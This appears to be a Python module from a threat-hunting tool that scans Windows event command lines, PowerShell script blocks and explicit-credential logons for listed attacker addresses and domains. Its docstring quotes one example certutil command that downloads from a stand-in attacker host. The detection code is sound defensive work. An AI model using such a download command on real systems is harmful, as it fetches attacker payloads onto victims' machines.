"""Listed attacker addresses and domains in the command lines, script blocks and logons of events.

The same values the web logs are searched for (`exhunt.analyzers.web_indicators`): a command
line that downloads from a listed domain (`certutil -urlcache -f http://cdn.evil.example/a`), a
script block naming a listed address, an explicit-credential logon (4648) from one. Only events
the detectors read in full anyway are searched (process starts, PowerShell script blocks, 4648),
so the search costs no extra decoding; logons (4624, 4625) and network connections (Sysmon 3) are
many and not searched.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from exhunt.analyzers.web_indicators import Match, NetworkIndicators
from exhunt.events.detect.common import report
from exhunt.events.record import EventRecord
from exhunt.filehunt.indicators import HOST_NAME
from exhunt.hits import Reporter

RULE = "EXH-EVT-IOC-NETWORK"
DETECTOR = "event-indicator"

# (source family, event id) -> the fields holding free text, and those holding one address
TEXT_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("sysmon", 1): ("CommandLine", "ParentCommandLine"),
    ("security", 4688): ("CommandLine",),
    ("powershell", 4104): ("ScriptBlockText",),
}
ADDRESS_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("security", 4648): ("IpAddress",),
}
_IPV4 = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
_MAX_TEXT = 1 << 20  # a script block is at most a few hundred KB; longer text is searched in its first MiB


def matcher(
    values: NetworkIndicators, family: Callable[[EventRecord], str | None]
) -> Callable[[EventRecord, Reporter], None] | None:
    """The search of one event, or None when the lists hold no address or domain."""
    if not (values.addresses or values.networks or values.domains):
        return None

    def search(record: EventRecord, result: Reporter) -> None:
        source = family(record)
        if source is None or record.event_id is None:
            return
        key = (source, record.event_id)
        found: list[tuple[str, Match]] = []
        for name in ADDRESS_FIELDS.get(key, ()):
            value = record.get(name).strip()
            found += [(name, m) for m in values.match_address(name, value)] if value else []
        for name in TEXT_FIELDS.get(key, ()):
            text = record.get(name)[:_MAX_TEXT]
            if text:
                found += [(name, m) for m in _in_text(values, name, text)]
        for name, match in found:
            ind = match.indicator
            facts = {
                "indicator": ind.value,
                "seen_in": f"{name}: {match.value}",
                "indicator_type": ind.type,
                "indicator_label": ind.label,
                "indicator_source": ind.source,
                "listed_in": f"{ind.origin}:{ind.line}",
                "text": record.get(name),
            }
            report(result, RULE, record, facts)

    return search


def _in_text(values: NetworkIndicators, field: str, text: str) -> list[Match]:
    out: list[Match] = []
    if values.addresses or values.networks:
        for m in _IPV4.finditer(text):
            out += values.match_address(field, m.group(0))
    if values.domains:
        lowered = text.lower()
        seen: set[str] = set()
        for m in HOST_NAME.finditer(lowered):
            name = m.group(0)
            if name not in seen:
                seen.add(name)
                out += values.match_domain(field, name)
    return out
